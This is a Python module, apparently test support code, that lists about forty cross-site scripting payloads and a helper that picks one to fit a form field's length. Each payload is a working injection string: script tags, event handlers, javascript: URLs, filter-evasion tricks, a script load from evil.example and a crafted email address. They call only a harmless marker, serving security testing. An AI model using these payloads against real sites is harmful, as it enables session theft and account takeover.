"""What an attacker types where a name is asked for: each calls MARK where a browser runs it."""

MARK = "x55()"
PAYLOADS = [
    f"<script>{MARK}</script>",
    f"</script><script>{MARK}</script>",
    f"<SCRIPT SRC=//evil.example/{MARK}></SCRIPT>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"<img src=x onerror={MARK}>",
    f'"><img src=x onerror={MARK}>',
    f"'><img src=x onerror={MARK}>",
    f"<svg onload={MARK}>",
    f"<svg/onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x>",
    f"<body onload={MARK}>",
    f"<iframe src=javascript:{MARK}>",
    f'<iframe srcdoc="<script>{MARK}</script>">',
    f"<object data=javascript:{MARK}>",
    f"<embed src=javascript:{MARK}>",
    f"<a href=javascript:{MARK}>a</a>",
    f"<a href=' javascript:{MARK}'>a</a>",
    f"<a href=java&#115;cript:{MARK}>a</a>",
    f"<form action=javascript:{MARK}><button>b</button></form>",
    f"<button formaction=javascript:{MARK}>b</button>",
    f"<input onfocus={MARK} autofocus>",
    f'" onfocus={MARK} autofocus="',
    f"' onmouseover={MARK} x='",
    f"` onmouseover={MARK} `",
    f'" style="background:url(javascript:{MARK})',
    f"<style>@import 'javascript:{MARK}';</style>",
    f"<link rel=stylesheet href=javascript:{MARK}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{MARK}'>",
    f"<base href='javascript:{MARK}//'>",
    f"<math><mi xlink:href=javascript:{MARK}>x</mi></math>",
    f"<details open ontoggle={MARK}>",
    f"<video><source onerror={MARK}></video>",
    f"<marquee onstart={MARK}>",
    f"--><script>{MARK}</script><!--",
    f"]]><script>{MARK}</script>",
    f"</title><script>{MARK}</script>",
    f"</textarea><script>{MARK}</script>",
    f"{{{{ 7|add:7 }}}}{{% debug %}}<b onclick={MARK}>",
    f"\u202e<script>{MARK}</script>",
]
# The part before the @ may be quoted, and then hold anything.
ADDRESS = '"<svg/onload={mark}>{number}"@commune.example'


def fitting(number: int, room: int | None) -> str:
    """Return the payload of a number, or the next one that there is room for; no two are equal."""
    for step in range(len(PAYLOADS)):
        payload = f"{PAYLOADS[(number + step) % len(PAYLOADS)]} {number}"
        if room is None or len(payload) <= room:
            return payload
    return str(number)
